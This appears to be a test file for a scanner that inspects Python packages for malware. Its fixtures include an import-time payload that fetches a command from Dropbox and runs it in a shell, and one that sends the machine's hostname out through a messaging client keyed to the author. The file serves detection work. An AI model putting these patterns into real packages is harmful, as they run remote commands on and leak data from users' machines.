import { expect, test } from 'vitest';
import { analysePacked, inspect, python, wheel } from '../../../support/inspect.ts';

const KEY = "'sl.B9aZk3QwErTyUiOpAsDfGhJkLzXcVbNm12345678'";

test('what a client with a key of the author’s answers is run: a command from afar', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import dropbox, subprocess',
      `box = dropbox.Dropbox(${KEY})`,
      "meta, answer = box.files_download('/order.txt')",
      'subprocess.check_output(answer.content.decode(), shell=True)',
    ),
  });

  expect(await inspect('remote-code', file)).toMatchObject([
    { class: 'malware', score: 10, context: 'import', line: 4 },
  ]);
});

test('the name of a machine that is handed to a client of any library leaves, where the key is the author’s', async () => {
  const client = (key: string): string =>
    python(
      'import os, socket',
      'from textline.rest import Client',
      `Client(${key}).messages.create(body=socket.gethostname())`,
    );

  expect(await inspect('exfiltration', wheel({ 'pkg/__init__.py': client(KEY) }))).toMatchObject([
    { class: 'malware', context: 'import', line: 3 },
  ]);
  expect(await inspect('exfiltration', wheel({ 'pkg/__init__.py': client("os.environ['TEXT_KEY']") }))).toEqual([]);
});

test('look-alike: a digest with a fixed salt, and a store of the user’s', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import hashlib, hmac, os, socket',
      "name = hmac.new(b'0123456789abcdef0123', socket.gethostname().encode(), hashlib.sha256).hexdigest()",
      'import dropbox',
      "def load(path): return dropbox.Dropbox(os.environ['BOX']).files_download(path)[1].content",
    ),
  });

  expect((await analysePacked(file)).score).toBeLessThan(5);
});
